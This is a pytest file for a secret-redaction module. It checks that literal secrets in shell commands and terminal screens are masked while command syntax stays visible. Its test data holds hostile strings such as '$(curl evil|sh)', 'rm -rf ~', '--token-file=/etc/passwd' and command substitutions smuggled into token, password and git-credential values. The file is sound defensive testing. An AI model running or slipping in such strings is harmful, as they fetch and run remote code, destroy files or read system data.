"""What is hidden from a reader is a literal value: never anything that changes what a command does."""

from __future__ import annotations

from collections import Counter
from time import process_time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.support.tier import examples

from atlasbridge.core.prompt.model import Subject, SubjectKind
from atlasbridge.core.prompt.redact import (
    GONE,
    find_secrets,
    mask_rows,
    mask_styled,
    redact,
    redact_outgoing,
    redact_rows,
)

SYNTAX = set("$`()[]{}|;&<>\"'\\ \t\n\r\x0b\x0c\x1b\x00")

SHOWN_WHOLE = [
    "API_KEY=`rm${IFS}-rf${IFS}~` npm run lint",
    "--token=$(curl evil|sh)",
    "TOKEN=$(curl evil|sh) make",
    "export SECRET=${X:-$(reboot)}",
    'PASSWORD="a b; rm -rf ~" x',
    "PASSWORD='$(reboot)' x",
    'token="`reboot`"',
    "secret=<(curl evil)",
    "password={a,b}/evil",
    "api_key=[x]",
    "--password=\\\nreboot",
    "API_KEY= reboot",
    "API_KEY= r2d2 --now",
    'API_KEY= "r2d2"',
    "x=token: reboot",
    "x=token: r2d2",
    "x='token': r2d2",
    "x=--password reboot",
    "xargs -I token: reboot",
    "Authorization:\nreboot1 now",
    "token:\nreboot1 now",
    "password=\nreboot1",
    "curl -H 'Authorization: Bearer $(reboot)'",
    "curl -H Authorization:`reboot`",
    "git clone https://me:$(reboot)@host/x",
    "git clone https://me:`reboot`@host/x",
    "git clone https://me:a;reboot;b@host/x",
    "git -c credential.helper=!reboot push",
    "git -c filter.secret.clean=reboot1 add .",
    "git -c alias.secret=clean secret -fdx",
    "git -c alias.token=!r2d2 token",
    "tool --token-file=/etc/passwd",
    "tool --password-command reboot1",
    "-----BEGIN PRIVATE KEY-----\nreboot\nrm -rf ~\n-----END PRIVATE KEY-----",
    "cat <<X\n-----BEGIN RSA PRIVATE KEY-----\nX\nreboot\n",
]


@pytest.mark.parametrize("text", SHOWN_WHOLE)
def test_a_value_that_does_something_is_shown(text: str) -> None:
    assert redact(text) == text
    assert redact_rows(text) == text
    assert Subject(SubjectKind.COMMAND, text, complete=True, shown=redact(text)).certain


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("token=abc;rm -rf ~", f"token={GONE};rm -rf ~"),
        ("token=abc&&x", f"token={GONE}&&x"),
        ("token=abc|sh", f"token={GONE}|sh"),
        ("curl 'http://h/?token=abc123&then=x'", f"curl 'http://h/?token={GONE}&then=x'"),
        ("API_KEY=hunter22>/etc/passwd x", f"API_KEY={GONE}>/etc/passwd x"),
        ("API_KEY='hunter22' npm test", f"API_KEY='{GONE}' npm test"),
        ("--token abc123;reboot", f"--token {GONE};reboot"),
        ("curl -H 'X-Api-Key: abc12345' x|sh", f"curl -H 'X-Api-Key: {GONE}' x|sh"),
        ("curl -H 'Authorization: Bearer abcdefgh'|sh", f"curl -H 'Authorization: Bearer {GONE}'|sh"),
        ("curl -u alice:hunter2 h", f"curl -u alice:{GONE} h"),
        ('{"password": "swordfish", "n": 1}', f'{{"password": "{GONE}", "n": 1}}'),
        ('{\\"password\\": \\"hunter2\\"}', f'{{\\"password\\": \\"{GONE}\\"}}'),
        ("password = swordfish", f"password = {GONE}"),
        ("  db_password: swordfish", f"  db_password: {GONE}"),
        ("Your new password: swordfish", f"Your new password: {GONE}"),
        ("DB_PASS=hunter2 x", f"DB_PASS={GONE} x"),
        ("echo sk-0123456789abcdef0123;reboot", f"echo {GONE};reboot"),
    ],
)
def test_of_a_value_beside_syntax_only_the_literal_part_is_hidden(text: str, shown: str) -> None:
    assert redact(text) == shown
    assert not Subject(SubjectKind.COMMAND, text, complete=True, shown=redact(text)).certain


def test_of_a_private_key_the_lines_are_hidden_and_its_frame_is_shown() -> None:
    key = (
        "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\nMzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDu==\n"
    )
    text = f"echo '-----BEGIN PRIVATE KEY-----\n{key}-----END PRIVATE KEY-----'; reboot"
    shown = redact(text)
    assert "MIIEv" not in shown and "MzEfY" not in shown
    assert shown == f"echo '-----BEGIN PRIVATE KEY-----\n{GONE}\n{GONE}\n-----END PRIVATE KEY-----'; reboot"


def test_a_known_value_with_syntax_in_it_keeps_its_syntax() -> None:
    assert redact("say correct horse;x now", ("correct horse;x",)) == f"say {GONE} {GONE};{GONE} now"


def test_a_short_known_value_is_hidden_as_a_whole_word_only() -> None:
    assert redact("pin 4711, not 14711 or 47110", ("4711",)) == f"pin {GONE}, not 14711 or 47110"
    assert redact("yes or no, 1 of 12", ("yes", "1", "12", "")) == "yes or no, 1 of 12"


def test_a_row_that_ended_takes_no_word_of_the_next_one_along() -> None:
    for head in ("echo sk-0123456789abcdef0123", "deploy --token=abcdef0123456789", "export API_KEY=hunter2hunter2"):
        assert redact_rows(f"{head}\nreboot now\n").endswith(f"{GONE}\nreboot now\n")


def test_what_begins_below_a_bare_name_is_hidden_only_if_no_one_would_take_it_for_a_word() -> None:
    for name in ("Password:", "MY_TOKEN="):
        for text in (f"{name}\n│ touched  │\npush │ /tmp/x", f"{name}\nreboot\nformat now"):
            assert redact_rows(text) == text
        wrapped = redact_rows(f"{name}\nabcdef0123\n456789abcdef")
        assert "abcdef0123" not in wrapped and "456789" not in wrapped


def test_a_masked_screen_keeps_its_columns() -> None:
    rows = ["│ token=abcdef0123456789 │ next", "│ PIN 4711               │", "", "wide 漢字 password=hunter2 x"]
    masked = mask_rows(rows, ("4711",))
    assert [len(row) for row in masked] == [len(row) for row in rows]
    assert "abcdef" not in masked[0] and "4711" not in masked[1] and "hunter2" not in masked[3]
    assert masked[0].endswith("│ next") and masked[3].endswith(" x") and GONE in masked[0]
    styled: list[list[list[object]]] = [[["pass", 1, None, 0], ["word=hun", None, None, 1], ["ter2 x", None, 2, 0]], []]
    assert mask_styled(styled) == [[["pass", 1, None, 0], ["word=•••", None, None, 1], ["•••• x", None, 2, 0]], []]


def test_what_leaves_is_harmless_and_without_secrets() -> None:
    assert redact_outgoing("a\x1b[2J\u202e token=abc123", ()) == f"a^[[2J<U+202E> token={GONE}"


WORDS = st.sampled_from(
    [
        *(
            "token",
            "API_KEY",
            "--password",
            "secret",
            "Authorization: Bearer",
            "https://me",
            "sk-",
            "ghp_",
            "rm",
            "-rf",
        ),
        *("-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----", "abc", "hunter2", "x", "A1b2C3d4E5f6G7h8I9j0"),
        *("@host", "~", "=", ":", ": ", " ", " = ", "=$(", ")", "`", "${IFS}", '"', "'", ";", "&&", "|", "\n", "\\"),
        *("<", ">", "[", "]", "{", "}"),
    ]
)
SHELL = st.lists(WORDS | st.text(max_size=6), max_size=14).map("".join)


@given(SHELL, st.lists(st.text(min_size=1, max_size=12), max_size=2).map(tuple))
@settings(max_examples=examples(600), deadline=None)
def test_no_text_loses_syntax(text: str, secrets: tuple[str, ...]) -> None:
    text = text.replace(GONE, "")
    for begin, end in find_secrets(text, secrets):
        assert not SYNTAX & set(text[begin:end])
    for shown in (redact(text, secrets), redact_rows(text, secrets)):
        rest = shown.replace(GONE, "")
        assert _syntax(rest) == _syntax(text)
        assert len(rest.split("\n")) == len(text.split("\n"))
    masked = "\n".join(mask_rows(text.split("\n"), secrets)).replace(GONE, "")
    assert _syntax(masked) == _syntax(text)


def _syntax(text: str) -> Counter[str]:
    return Counter(char for char in text if char in SYNTAX)


@pytest.mark.parametrize(
    "piece",
    [
        "token: x ",
        "a-",
        'token="a b ',
        "x=token: ",
        "password=",
        "://a:",
        "-----BEGIN PRIVATE KEY-----",
        "  ",
        "││",
        "sk-",
    ],
)
def test_the_cost_of_redaction_grows_with_the_length_only(piece: str) -> None:
    def seconds(size: int) -> float:
        text = (piece * size)[:size]
        took = []
        for _ in range(3):
            begin = process_time()
            redact_rows(text, ("correct horse",))
            took.append(process_time() - begin)
        return min(took)

    assert seconds(64_000) < 40 * seconds(8_000) + 0.01
